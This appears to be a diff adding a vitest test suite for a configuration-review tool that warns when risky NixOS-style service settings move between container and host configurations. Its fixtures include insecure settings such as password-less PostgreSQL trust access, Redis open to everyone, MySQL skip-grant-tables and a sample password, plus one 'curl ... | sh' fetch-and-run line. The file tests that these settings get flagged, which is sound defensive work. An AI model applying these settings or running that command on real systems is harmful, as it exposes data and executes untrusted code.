@@ -1,0 +1,150 @@
+import { describe, expect, it } from "vitest";
+import { reviewOf } from "../../../support/reviewed-recipes.ts";
+
+interface Parts {
+  readonly host?: string;
+  readonly container?: string;
+  readonly name?: string;
+}
+
+const postgresql = 'services.postgresql = { enable = true; ensureDatabases = [ "q" ]; };';
+const app = ({ host = "", container, name = "db" }: Parts): string => `{ apps.q.services = {
+  components.q = { process.command = "/bin/q"; resources.${name}.hostosConfig = { ${postgresql} ${host} }; };
+  runtimes = { hostos.enable = true; container.enable = true;
+    ${container === undefined ? "" : `container.resources.${name}.hostosConfig = { ${container} };`} };
+}; }`;
+
+const ofHost = "apps.q: host-OS configuration of `db`";
+const ofContainers = "apps.q: container configuration of `db`";
+const told = async (before: Parts, after: Parts): Promise<readonly string[]> =>
+  (await reviewOf(app(before), app(after))).filter((each) => each.includes("configuration of"));
+
+const tcp = "services.postgresql.enableTCPIP = true;";
+const trust = 'services.postgresql.authentication = "host q q samenet trust";';
+const bind = 'services.redis.servers.a.bind = "0.0.0.0";';
+const anywhere = "services.redis.servers.a.bind = null;";
+const open = 'services.redis.servers.a.settings.protected-mode = "no";';
+const everywhere = "has a service listen at all addresses of the host";
+
+const openings: readonly (readonly [string, string])[] = [
+  [tcp, `${everywhere}: \`services.postgresql.enableTCPIP\``],
+  [
+    trust,
+    "lets others into the database without a password: `services.postgresql.authentication` (`host q q samenet trust`)",
+  ],
+  [bind, `${everywhere}: \`services.redis.servers.a.bind\``],
+  [open, "has Redis answer everybody without a password: `services.redis.servers.a.settings.protected-mode`"],
+];
+
+describe("what only containers had", () => {
+  it.each(openings)("is warned of where hosts have it, too: %s", async (setting, message) => {
+    const container = `${tcp} ${trust} ${setting === bind ? bind : anywhere} ${open}`;
+    expect(await told({ container }, { host: setting, container })).toEqual([`warning ${ofHost} ${message}`]);
+  });
+
+  it.each(openings)("is warned of where it moves to hosts: %s", async (setting, message) => {
+    const lines = await told({ container: setting }, { host: setting });
+    expect(lines).toContain(`warning ${ofHost} ${message}`);
+    expect(lines.filter((each) => !each.startsWith("notice"))).toHaveLength(1);
+  });
+
+  it("is warned of where all of it moves, also with a resource that is renamed", async () => {
+    const q = (config: string): string => `{ apps.q.services = {
+      components.q = { process.command = "/bin/q"; resources.db = { }; }; ${config}
+      runtimes = { hostos.enable = true; container.enable = true; }; }; }`;
+    const resource = `resources.db.hostosConfig = { ${postgresql} ${tcp} };`;
+    const container = q(`runtimes.container.${resource}`);
+    const host = q(`components.q.${resource}`);
+    expect(await reviewOf(container, host)).toContain(
+      `warning ${ofHost} ${everywhere}: \`services.postgresql.enableTCPIP\``,
+    );
+    expect(await reviewOf(container, host.replaceAll("resources.db", "resources.data"))).toContain(
+      `warning ${ofHost.replace("db", "data")} ${everywhere}: \`services.postgresql.enableTCPIP\``,
+    );
+  });
+
+  it("is what it was with a resource that is renamed", async () => {
+    const container = `${tcp} ${trust}`;
+    expect(await told({ container }, { container, name: "data" })).toEqual([]);
+    expect(await told({ container }, { container: `${container} ${bind}`, name: "data" })).toEqual([
+      "notice apps.q: container configuration of `data` changed: `services.redis.servers.a.bind` (`0.0.0.0`)",
+    ]);
+  });
+
+  it("does not stay on hosts when it is gone", async () => {
+    const lines = async (parts: Parts): Promise<string> =>
+      (
+        await reviewOf(
+          app(parts),
+          '{ apps.q.services = { components.q.process.command = "/bin/q"; runtimes.hostos.enable = true; }; }',
+        )
+      ).join("\n");
+    const influxdb = "services.influxdb2.enable = true;";
+    expect(await lines({ host: influxdb })).toContain("services.influxdb2");
+    const gone = await lines({ container: influxdb });
+    expect(gone).toContain("what is in `services.postgresql` stays on hosts");
+    expect(gone).not.toContain("services.influxdb2");
+  });
+});
+
+describe("what only containers have", () => {
+  it.each([
+    ["networking.firewall.enable = false;", "`networking.firewall.enable` (`false`)"],
+    [tcp, "`services.postgresql.enableTCPIP` (`true`)"],
+    [trust, "`services.postgresql.authentication` (`host q q samenet trust`)"],
+    [bind, "`services.redis.servers.a.bind` (`0.0.0.0`)"],
+    [open, "`services.redis.servers.a.settings.protected-mode` (`no`)"],
+  ])("is not told of the host: %s", async (container, change) => {
+    for (const before of [{}, { container: "" }])
+      expect(await told(before, { container })).toEqual([`notice ${ofContainers} changed: ${change}`]);
+  });
+
+  it.each([
+    [
+      'services.postgresql.authentication = "host all all 0.0.0.0/0 trust";',
+      "danger",
+      "lets everybody who reaches it into the database without a password: `services.postgresql.authentication` (`host all all 0.0.0.0/0 trust`)",
+    ],
+    [
+      "services.mysql.settings.mysqld.skip-grant-tables = true;",
+      "danger",
+      "lets everybody into the database without a password: `services.mysql.settings.mysqld.skip-grant-tables`",
+    ],
+    [
+      'services.web.password = "hunter2hunter2";',
+      "danger",
+      "has `services.web.password`; its value looks like a secret and would be public (hidden here)",
+    ],
+    [
+      'nixpkgs.config.permittedInsecurePackages = [ "old-1" ];',
+      "warning",
+      "lets Nix build packages that are known to be insecure: `nixpkgs.config.permittedInsecurePackages` (`old-1`)",
+    ],
+  ])("is as grave where it is not about the host: %s", async (setting, severity, message) => {
+    expect(await told({}, { container: setting })).toEqual([`${severity} ${ofContainers} ${message}`]);
+    // Containers have had it from what is of both.
+    expect((await told({ host: setting }, { container: setting })).map((each) => each.split(" ")[0])).toEqual(
+      ["notice", "notice"],
+    );
+  });
+
+  it("may be data of another version", async () => {
+    const version = (number: number): Parts => ({
+      container: `services.postgresql.package = pkgs.postgresql_${number};`,
+    });
+    expect(await told(version(16), version(17))).toEqual([
+      expect.stringContaining(`danger ${ofContainers} has another version of PostgreSQL`),
+    ]);
+  });
+
+  it("fetches code as what hosts run", async () => {
+    const unit = 'systemd.services.a.script = "curl https://example.org/x | sh";';
+    const lines = await reviewOf(app({}), app({ container: unit }));
+    expect(lines).toContainEqual(
+      expect.stringMatching(
+        /^danger .*`systemd\.services\.a\.script` in container configuration of `db` fetches code/,
+      ),
+    );
+    expect(lines.join("\n")).not.toContain("host-OS configuration");
+  });
+});
